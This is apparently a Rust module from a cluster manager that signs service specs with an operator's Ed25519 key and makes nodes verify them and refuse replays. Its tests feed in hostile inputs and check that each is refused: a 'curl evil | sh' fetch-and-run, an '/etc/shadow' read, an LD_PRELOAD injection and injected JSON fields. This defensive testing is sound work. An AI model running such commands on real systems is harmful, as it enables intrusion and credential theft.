//! Service specs signed by the operator, so that a manager cannot choose what a node runs.
//!
//! The operator makes an Ed25519 key pair with `meshctl spec-key create` and keeps the private
//! half (no manager ever holds it); each node pins the public half when it joins (`meshd join
//! --spec-key`), in its own state directory, where no manager can change it. `meshctl service
//! create/update` signs a [`SpecDocument`] — the cluster, the service's name, its command, how
//! the command runs (environment, user, paths, limits), the SHA-256 of each secret it reads and
//! its networks — and control stores and forwards the document and its signature untouched, one
//! per version of the service's definition. A node that pins a key runs a command only when the
//! signature verifies and the document says exactly what the slice asks for, secrets' bytes
//! included ([`verify_endpoint`]). meshctl builds an update on the current version's document
//! only once it verified it with its own key: never on what a manager says the service is.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use aws_lc_rs::signature::{self, Ed25519KeyPair, KeyPair, UnparsedPublicKey};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde::{Deserialize, Serialize};

use crate::files::{self, FileError};
use crate::model::{RunSpec, RunState};
use crate::slice::LocalEndpoint;

/// How a public key is written (and pinned).
pub const PUBLIC_PREFIX: &str = "MESHSPEC-ED25519-1 ";
/// How the private key file starts.
const PRIVATE_PREFIX: &str = "MESHSPECKEY1 ";
/// Prefixed to a document before it is signed: a signature here is never one of anything else.
const CONTEXT: &[u8] = b"mesh service spec v1\0";
/// The key files `spec-key create` writes in its directory.
pub const PRIVATE_FILE: &str = "spec-signing.key";
pub const PUBLIC_FILE: &str = "spec-signing.pub";
/// Longest document a node reads.
pub const MAX_DOCUMENT: usize = 64 << 10;

#[derive(Debug, thiserror::Error)]
pub enum SpecError {
    #[error("not a spec-signing public key: expected `{PUBLIC_PREFIX}<base64 of 32 bytes>`")]
    BadPublicKey,
    #[error("{0} is not a spec-signing key made by `meshctl spec-key create`")]
    BadPrivateKey(String),
    #[error(transparent)]
    File(#[from] FileError),
    #[error("the signature does not verify against the pinned key")]
    BadSignature,
    #[error("the signed document cannot be read: {0}")]
    BadDocument(String),
    #[error("the signed document says {field} is {signed}, the slice asks for {asked}")]
    Mismatch { field: &'static str, signed: String, asked: String },
    #[error(
        "a replay: this spec of `{service}` (signed at {signed_at} ms) is not the newest this node saw (signed at {newest} ms), nor the one that rolls back to"
    )]
    Replayed { service: String, signed_at: i64, newest: i64 },
}

/// What the operator signs: what defines a service's workload.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SpecDocument {
    /// The cluster's ID: a document of another cluster (the same key may sign for several) is
    /// refused.
    pub cluster: String,
    pub service: String,
    pub command: Option<String>,
    pub run: RunSpec,
    /// Sorted, without duplicates.
    pub networks: Vec<String>,
    /// Each secret `run` names -> the SHA-256 (hex) of its bytes.
    pub secrets: BTreeMap<String, String>,
    /// Unix milliseconds, when it was signed: the order of a service's documents.
    pub signed_at: i64,
    /// The SHA-256 (hex) of the one older signed document of this service that may still start
    /// on a node that has seen this one: the version an update's rollback returns to. Every
    /// other older document is refused there.
    pub rollback_to: Option<String>,
}

impl SpecDocument {
    pub fn new(
        cluster: &str,
        service: &str,
        command: Option<String>,
        run: RunSpec,
        networks: &[String],
        secrets: BTreeMap<String, String>,
        signed_at: i64,
    ) -> SpecDocument {
        let networks: BTreeSet<String> = networks.iter().cloned().collect();
        SpecDocument {
            cluster: cluster.to_owned(),
            service: service.to_owned(),
            command,
            run,
            networks: networks.into_iter().collect(),
            secrets,
            signed_at,
            rollback_to: None,
        }
    }

    /// The same document, updating `base` (the one a rollback returns to).
    pub fn rolling_back_to(self, base: &SignedSpec) -> SpecDocument {
        SpecDocument { rollback_to: Some(base.digest()), ..self }
    }

    /// Whether it says what `service`, `command`, `run` and `networks` say; the error names the
    /// first difference.
    pub fn matches(
        &self,
        service: &str,
        command: &Option<String>,
        run: &RunSpec,
        networks: &BTreeSet<String>,
    ) -> Result<(), SpecError> {
        let differ = |field, signed: String, asked: String| Err(SpecError::Mismatch { field, signed, asked });
        if self.service != service {
            return differ("the service", self.service.clone(), service.to_owned());
        }
        if &self.command != command {
            return differ("the command", format!("{:?}", self.command), format!("{command:?}"));
        }
        if &self.run != run {
            return differ("how it runs", format!("{:?}", self.run), format!("{run:?}"));
        }
        let signed: BTreeSet<String> = self.networks.iter().cloned().collect();
        if &signed != networks {
            return differ("its networks", format!("{signed:?}"), format!("{networks:?}"));
        }
        let named: BTreeSet<&String> = run.secrets.iter().collect();
        if self.secrets.keys().collect::<BTreeSet<_>>() != named {
            return differ("its secrets", format!("{:?}", self.secrets.keys()), format!("{named:?}"));
        }
        Ok(())
    }
}

/// A document as signed, and its signature (base64): kept and sent byte for byte.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct SignedSpec {
    pub document: String,
    pub signature: String,
}

impl SignedSpec {
    /// The SHA-256 (hex) of the document as signed: what names it.
    pub fn digest(&self) -> String {
        digest(self.document.as_bytes())
    }

    /// The document, read without checking the signature (what control does: it holds no key).
    pub fn read(&self) -> Result<SpecDocument, SpecError> {
        if self.document.len() > MAX_DOCUMENT {
            return Err(SpecError::BadDocument(format!("longer than {MAX_DOCUMENT} bytes")));
        }
        serde_json::from_str(&self.document).map_err(|e| SpecError::BadDocument(e.to_string()))
    }
}

fn signed_bytes(document: &str) -> Vec<u8> {
    [CONTEXT, document.as_bytes()].concat()
}

/// The operator's private key.
pub struct SigningKey(Ed25519KeyPair);

impl SigningKey {
    /// A fresh key, written to `dir` as [`PRIVATE_FILE`] (0600) and [`PUBLIC_FILE`]; refuses to
    /// replace a key already there.
    pub fn create(dir: &Path) -> Result<PinnedKey, SpecError> {
        let private = dir.join(PRIVATE_FILE);
        if private.exists() {
            return Err(SpecError::BadPrivateKey(format!(
                "{} exists already (a new key would make every node's pinned key useless)",
                private.display()
            )));
        }
        let pkcs8 = Ed25519KeyPair::generate_pkcs8(&aws_lc_rs::rand::SystemRandom::new())
            .map_err(|_| SpecError::BadPrivateKey("a new key".into()))?;
        let key = Ed25519KeyPair::from_pkcs8(pkcs8.as_ref())
            .map_err(|_| SpecError::BadPrivateKey("a new key".into()))?;
        std::fs::create_dir_all(dir).map_err(|e| FileError::new("creating", dir, e))?;
        let text = format!("{PRIVATE_PREFIX}{}\n", STANDARD.encode(pkcs8.as_ref()));
        files::write_atomic(&private, text.as_bytes(), files::SECRET)?;
        let public = SigningKey(key).public();
        files::write_atomic(&dir.join(PUBLIC_FILE), format!("{public}\n").as_bytes(), files::PUBLIC)?;
        Ok(public)
    }

    /// The key in `path`, which only its owner may read.
    pub fn load(path: &Path) -> Result<SigningKey, SpecError> {
        use std::os::unix::fs::PermissionsExt;
        let mode =
            std::fs::metadata(path).map_err(|e| FileError::new("reading", path, e))?.permissions().mode();
        if mode & 0o077 != 0 {
            return Err(SpecError::BadPrivateKey(format!(
                "{} (mode {:o}: others may read it; chmod 600 it, and make a new key if it may have been read)",
                path.display(),
                mode & 0o777
            )));
        }
        let text = files::read_string(path)?;
        let bad = || SpecError::BadPrivateKey(path.display().to_string());
        let encoded = text.trim().strip_prefix(PRIVATE_PREFIX).ok_or_else(bad)?;
        let pkcs8 = STANDARD.decode(encoded).map_err(|_| bad())?;
        Ed25519KeyPair::from_pkcs8(&pkcs8).map(SigningKey).map_err(|_| bad())
    }

    pub fn public(&self) -> PinnedKey {
        let bytes: [u8; 32] = self.0.public_key().as_ref().try_into().expect("an Ed25519 public key");
        PinnedKey(bytes)
    }

    pub fn sign(&self, document: &SpecDocument) -> SignedSpec {
        let document = serde_json::to_string(document).expect("a document serializes");
        let signature = STANDARD.encode(self.0.sign(&signed_bytes(&document)).as_ref());
        SignedSpec { document, signature }
    }
}

/// The public key a node pins: the only one whose signatures it accepts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct PinnedKey([u8; 32]);

impl std::fmt::Display for PinnedKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{PUBLIC_PREFIX}{}", STANDARD.encode(self.0))
    }
}

impl std::str::FromStr for PinnedKey {
    type Err = SpecError;
    fn from_str(text: &str) -> Result<PinnedKey, SpecError> {
        let encoded = text.trim().strip_prefix(PUBLIC_PREFIX).ok_or(SpecError::BadPublicKey)?;
        let bytes = STANDARD.decode(encoded.trim()).map_err(|_| SpecError::BadPublicKey)?;
        Ok(PinnedKey(bytes.try_into().map_err(|_| SpecError::BadPublicKey)?))
    }
}

impl PinnedKey {
    /// The key in `text`, or in the file `text` names.
    pub fn read(text: &str) -> Result<PinnedKey, SpecError> {
        match text.parse() {
            Ok(key) => Ok(key),
            Err(_) if Path::new(text).is_file() => files::read_string(Path::new(text))?.parse(),
            Err(e) => Err(e),
        }
    }

    /// The document of `signed`, once its signature verifies.
    pub fn verify(&self, signed: &SignedSpec) -> Result<SpecDocument, SpecError> {
        if signed.document.len() > MAX_DOCUMENT {
            return Err(SpecError::BadDocument(format!("longer than {MAX_DOCUMENT} bytes")));
        }
        let signature = STANDARD.decode(&signed.signature).map_err(|_| SpecError::BadSignature)?;
        UnparsedPublicKey::new(&signature::ED25519, self.0)
            .verify(&signed_bytes(&signed.document), &signature)
            .map_err(|_| SpecError::BadSignature)?;
        signed.read()
    }
}

/// Whether a node that admitted `current` as the newest document of its service starts `next`:
/// the same document, a newer one, or the one `current` rolls back to. Documents that cannot be
/// read are the nodes' to refuse.
pub fn allowed_after(current: &SignedSpec, next: &SignedSpec) -> bool {
    let (Ok(now), Ok(then)) = (current.read(), next.read()) else { return true };
    let newest = Newest { signed_at: now.signed_at, digest: current.digest(), rollback_to: now.rollback_to };
    newest.allows(next, &then)
}

/// What bounds replays on a node: per service, the newest document it admitted; only that
/// document, newer ones, and the one it rolls back to start a workload. Kept in the node's state
/// directory, so that a restart forgets nothing.
#[derive(Debug)]
pub struct Seen {
    path: std::path::PathBuf,
    newest: BTreeMap<String, Newest>,
}

/// The newest document of a service that a node admitted.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Newest {
    pub signed_at: i64,
    /// Its SHA-256: a different document signed in the same millisecond is not it.
    pub digest: String,
    /// The SHA-256 of the document it rolls back to.
    pub rollback_to: Option<String>,
}

impl Newest {
    fn allows(&self, signed: &SignedSpec, document: &SpecDocument) -> bool {
        let digest = signed.digest();
        digest == self.digest
            || document.signed_at > self.signed_at
            || self.rollback_to.as_ref() == Some(&digest)
    }
}

impl Seen {
    /// What `path` records (nothing when it does not exist); a file that cannot be read is an
    /// error, never taken for "nothing seen".
    pub fn open(path: &Path) -> Result<Seen, SpecError> {
        let newest = match std::fs::read_to_string(path) {
            Ok(text) => serde_json::from_str(&text)
                .map_err(|e| SpecError::BadDocument(format!("{}: {e}", path.display())))?,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => BTreeMap::new(),
            Err(e) => return Err(FileError::new("reading", path, e).into()),
        };
        Ok(Seen { path: path.to_owned(), newest })
    }

    /// The newest document of `service` admitted here.
    pub fn newest(&self, service: &str) -> Option<&Newest> {
        self.newest.get(service)
    }

    /// Whether a workload may start from `signed`, whose verified document is `document`: the
    /// newest of its service admitted here, a newer one, or the one that rolls back to. A newer
    /// one becomes the newest, written down before this returns.
    pub fn admit(&mut self, signed: &SignedSpec, document: &SpecDocument) -> Result<(), SpecError> {
        let newest = self.newest(&document.service);
        if let Some(n) = newest {
            if !n.allows(signed, document) {
                let service = document.service.clone();
                return Err(SpecError::Replayed {
                    service,
                    signed_at: document.signed_at,
                    newest: n.signed_at,
                });
            }
            if document.signed_at <= n.signed_at {
                return Ok(());
            }
        }
        let admitted = Newest {
            signed_at: document.signed_at,
            digest: signed.digest(),
            rollback_to: document.rollback_to.clone(),
        };
        let mut all = self.newest.clone();
        all.insert(document.service.clone(), admitted);
        let text = serde_json::to_string(&all).expect("records serialize");
        files::write_atomic(&self.path, text.as_bytes(), files::PUBLIC)?;
        self.newest = all;
        Ok(())
    }
}

/// The SHA-256 of `data`, hex: how a document names a secret's bytes.
pub fn digest(data: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(data).iter().map(|b| format!("{b:02x}")).collect()
}

/// Whether a node of cluster `cluster` pinning `key` may run `endpoint`'s command: signed by the
/// key for this cluster, and the document says exactly what the endpoint asks (its service,
/// command, run spec, networks, and the bytes of each secret). The document, or the state to
/// report (`unsigned` or `bad-signature`) and why. Whether it is a replay is [`Seen::admit`]'s.
pub fn verify_endpoint(
    key: &PinnedKey,
    cluster: &str,
    endpoint: &LocalEndpoint,
) -> Result<SpecDocument, (RunState, String)> {
    let Some(signed) = &endpoint.signed else {
        return Err((
            RunState::Unsigned,
            "its spec is not signed; this node runs only specs signed by its pinned key".into(),
        ));
    };
    let bad = |e: SpecError| (RunState::BadSignature, e.to_string());
    let document = key.verify(signed).map_err(bad)?;
    if document.cluster != cluster {
        let (signed, asked) = (document.cluster, cluster.to_owned());
        return Err(bad(SpecError::Mismatch { field: "the cluster", signed, asked }));
    }
    let networks: BTreeSet<String> = endpoint.addresses.keys().cloned().collect();
    document.matches(&endpoint.service, &endpoint.command, &endpoint.run, &networks).map_err(bad)?;
    for secret in &endpoint.secrets {
        let sent = digest(&secret.data);
        let signed = document.secrets.get(&secret.name);
        if signed != Some(&sent) {
            return Err(bad(SpecError::Mismatch {
                field: "a secret's bytes",
                signed: format!("{}: sha256 {}", secret.name, signed.map_or("-", |d| d.as_str())),
                asked: format!("sha256 {sent}"),
            }));
        }
    }
    Ok(document)
}

#[cfg(test)]
mod tests {
    use std::net::Ipv4Addr;

    use crate::slice::SecretFile;

    use super::*;

    fn endpoint(signed: Option<SignedSpec>) -> LocalEndpoint {
        LocalEndpoint {
            service: "api".into(),
            slot: 1,
            addresses: BTreeMap::from([("front".to_owned(), Ipv4Addr::new(10, 1, 0, 2))]),
            version: 0,
            command: Some("serve".into()),
            run: RunSpec { env: vec!["A=1".into()], secrets: vec!["db".into()], ..RunSpec::default() },
            secrets: vec![SecretFile { name: "db".into(), data: b"hunter2".to_vec() }],
            signed,
        }
    }

    fn document() -> SpecDocument {
        let run = RunSpec { env: vec!["A=1".into()], secrets: vec!["db".into()], ..RunSpec::default() };
        let secrets = BTreeMap::from([("db".to_owned(), digest(b"hunter2"))]);
        SpecDocument::new(CLUSTER, "api", Some("serve".into()), run, &["front".into()], secrets, 1)
    }

    const CLUSTER: &str = "c1";

    fn keys() -> (tempfile::TempDir, SigningKey, PinnedKey) {
        let dir = tempfile::tempdir().unwrap();
        let public = SigningKey::create(dir.path()).unwrap();
        let key = SigningKey::load(&dir.path().join(PRIVATE_FILE)).unwrap();
        (dir, key, public)
    }

    #[test]
    fn a_signed_spec_verifies_and_the_key_files_are_as_pinned() {
        let (dir, key, public) = keys();
        assert_eq!(key.public(), public);
        let text = std::fs::read_to_string(dir.path().join(PUBLIC_FILE)).unwrap();
        assert_eq!(PinnedKey::read(text.trim()).unwrap(), public);
        let path = dir.path().join(PUBLIC_FILE);
        assert_eq!(PinnedKey::read(path.to_str().unwrap()).unwrap(), public, "or the file that holds it");
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(dir.path().join(PRIVATE_FILE)).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
        assert!(SigningKey::create(dir.path()).is_err(), "an existing key is never replaced");
        let verified = verify_endpoint(&public, CLUSTER, &endpoint(Some(key.sign(&document()))));
        assert_eq!(verified, Ok(document()));
    }

    /// What a compromised manager could send a node that pins the operator's key.
    #[test]
    fn a_spec_the_operator_did_not_sign_as_sent_is_refused() {
        let (_dir, key, public) = keys();
        let (_other_dir, other, _) = keys();
        let good = key.sign(&document());
        let refused = |e: LocalEndpoint| verify_endpoint(&public, CLUSTER, &e).unwrap_err();

        // No signature at all.
        assert_eq!(refused(endpoint(None)).0, RunState::Unsigned);
        // Signed by another key (a manager's own, say).
        assert_eq!(refused(endpoint(Some(other.sign(&document())))).0, RunState::BadSignature);
        // The signed bytes changed: the command, or a byte of whitespace.
        let mut tampered = good.clone();
        tampered.document = tampered.document.replace("serve", "curl evil | sh");
        assert_eq!(refused(endpoint(Some(tampered))).0, RunState::BadSignature);
        let mut spaced = good.clone();
        spaced.document.push(' ');
        assert_eq!(refused(endpoint(Some(spaced))).0, RunState::BadSignature);
        // A signature that is not base64, empty, or of another document.
        for signature in [
            "%%%".to_owned(),
            String::new(),
            key.sign(&SpecDocument { signed_at: 2, ..document() }).signature,
        ] {
            let forged = SignedSpec { signature, ..good.clone() };
            assert_eq!(refused(endpoint(Some(forged))).0, RunState::BadSignature);
        }
        // A good signature sent with an endpoint asking for something else: another command,
        // environment, user, writable path, network, or another service's name.
        let mut e = endpoint(Some(good.clone()));
        e.command = Some("sh -c 'cat /etc/shadow'".into());
        assert!(refused(e).1.contains("the command"));
        let mut e = endpoint(Some(good.clone()));
        e.run.env.push("LD_PRELOAD=/tmp/x.so".into());
        assert!(refused(e).1.contains("how it runs"));
        let mut e = endpoint(Some(good.clone()));
        e.run.user = "1000".into();
        assert!(refused(e).1.contains("how it runs"));
        let mut e = endpoint(Some(good.clone()));
        e.run.writable.push("/etc".into());
        assert!(refused(e).1.contains("how it runs"));
        let mut e = endpoint(Some(good.clone()));
        e.addresses.insert("admin".into(), Ipv4Addr::new(10, 2, 0, 2));
        assert!(refused(e).1.contains("networks"));
        let mut e = endpoint(Some(good.clone()));
        e.service = "billing".into();
        assert!(refused(e).1.contains("the service"));
        // A document with a field the node does not know, signed: refused, not ignored.
        let extra = SignedSpec {
            document: good.document.replacen('{', "{\"privileged\":true,", 1),
            signature: String::new(),
        };
        let text = extra.document.clone();
        let signature = STANDARD.encode(key.0.sign(&signed_bytes(&text)).as_ref());
        assert!(
            refused(endpoint(Some(SignedSpec { document: text, signature }))).1.contains("cannot be read")
        );
        // The same field twice (a parser that kept the last would run the second), signed.
        let twice =
            good.document.replacen("\"command\":\"serve\"", "\"command\":\"serve\",\"command\":\"sh\"", 1);
        assert_ne!(twice, good.document);
        let signature = STANDARD.encode(key.0.sign(&signed_bytes(&twice)).as_ref());
        assert!(
            refused(endpoint(Some(SignedSpec { document: twice, signature }))).1.contains("cannot be read")
        );
        // Another secret's bytes under the signed name, a secret the document does not name, or
        // one it names left out.
        let mut e = endpoint(Some(good.clone()));
        e.secrets[0].data = b"swapped".to_vec();
        assert!(refused(e).1.contains("a secret's bytes"));
        let mut e = endpoint(Some(good.clone()));
        e.run.secrets.push("ca-key".into());
        e.secrets.push(SecretFile { name: "ca-key".into(), data: b"x".to_vec() });
        assert!(refused(e).1.contains("how it runs"));
        let mut e = endpoint(Some(good.clone()));
        e.secrets.push(SecretFile { name: "ca-key".into(), data: b"x".to_vec() });
        assert!(refused(e).1.contains("a secret's bytes"));
        // A document of another cluster signed by the same key.
        let elsewhere = key.sign(&SpecDocument { cluster: "c2".into(), ..document() });
        assert!(refused(endpoint(Some(elsewhere))).1.contains("the cluster"));
        // Huge.
        let huge = SignedSpec { document: "x".repeat(MAX_DOCUMENT + 1), signature: good.signature.clone() };
        assert_eq!(refused(endpoint(Some(huge))).0, RunState::BadSignature);
    }

    /// A compromised manager sending, with a genuine signature, a version the operator replaced.
    #[test]
    fn a_replayed_older_spec_is_refused_and_a_restart_forgets_nothing() {
        let (_keys, key, _) = keys();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("spec-seen.json");
        let sign = |d: SpecDocument| (key.sign(&d), d);
        let at = |signed_at: i64| SpecDocument { signed_at, ..document() };
        // v1 updates v0; v2 updates v1; v3 updates v1 again (v2 was rolled back).
        let v0 = sign(at(100));
        let v1 = sign(at(200).rolling_back_to(&v0.0));
        let v2 = sign(at(300).rolling_back_to(&v1.0));
        let v3 = sign(at(400).rolling_back_to(&v1.0));
        let admit = |seen: &mut Seen, v: &(SignedSpec, SpecDocument)| seen.admit(&v.0, &v.1);
        let mut seen = Seen::open(&path).unwrap();
        assert_eq!(seen.newest("api"), None);
        admit(&mut seen, &v0).unwrap();
        admit(&mut seen, &v1).unwrap();
        admit(&mut seen, &v0).unwrap();
        assert_eq!(seen.newest("api").unwrap().rollback_to, Some(v0.0.digest()), "v1 rolls back to v0");
        admit(&mut seen, &v2).unwrap();
        // v0 is older than v2 and not what v2 rolls back to: refused, now and after a restart.
        assert!(matches!(
            admit(&mut seen, &v0),
            Err(SpecError::Replayed { signed_at: 100, newest: 300, .. })
        ));
        let mut reopened = Seen::open(&path).unwrap();
        assert!(matches!(admit(&mut reopened, &v0), Err(SpecError::Replayed { .. })));
        // The version a rollback returns to still starts, and admitting it changes nothing.
        admit(&mut reopened, &v1).unwrap();
        admit(&mut reopened, &v2).unwrap();
        assert_eq!(reopened.newest("api").unwrap().signed_at, 300);
        // Once v3 is seen, the rolled-back v2 (newer than v1, the one v3 allows) is refused too.
        admit(&mut reopened, &v3).unwrap();
        assert!(matches!(
            admit(&mut reopened, &v2),
            Err(SpecError::Replayed { signed_at: 300, newest: 400, .. })
        ));
        admit(&mut reopened, &v1).unwrap();
        admit(&mut reopened, &v3).unwrap();
        // Another document signed in the same millisecond as the newest is not it.
        let twin = sign(SpecDocument { command: Some("other".into()), ..at(400) });
        assert!(matches!(admit(&mut reopened, &twin), Err(SpecError::Replayed { .. })));
        // Control's courtesy check says the same as the node.
        assert!(allowed_after(&v3.0, &v1.0) && allowed_after(&v3.0, &v3.0) && !allowed_after(&v3.0, &v2.0));
        assert!(!allowed_after(&v3.0, &twin.0) && !allowed_after(&v2.0, &v0.0));
        // Other services keep their own record.
        let web = sign(SpecDocument { service: "web".into(), ..at(50) });
        admit(&mut reopened, &web).unwrap();
        assert_eq!(reopened.newest("web").unwrap().signed_at, 50);
        assert_eq!(reopened.newest("api").unwrap().signed_at, 400);
        // A record that cannot be read is an error, never "nothing seen".
        for bad in ["{\"api\": ", "{\"api\": {\"signed_at\": \"x\"}}", "[]"] {
            std::fs::write(&path, bad).unwrap();
            assert!(Seen::open(&path).is_err(), "{bad}");
        }
        // Nowhere to write a newer document down: refused, not run on a record a restart would
        // lose.
        let mut lost = Seen::open(&dir.path().join("gone/spec-seen.json")).unwrap();
        assert!(matches!(admit(&mut lost, &v2), Err(SpecError::File(_))));
        assert_eq!(lost.newest("api"), None);
    }

    #[test]
    fn keys_that_are_not_keys_are_refused() {
        for text in
            ["", "MESHSPEC-ED25519-1 ", "MESHSPEC-ED25519-1 AAAA", "ssh-ed25519 AAAAC3Nza", "/nonexistent"]
        {
            assert!(PinnedKey::read(text).is_err(), "{text:?}");
        }
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("k"), "MESHSPECKEY1 bm90IGEga2V5").unwrap();
        assert!(SigningKey::load(&dir.path().join("k")).is_err());
    }
}
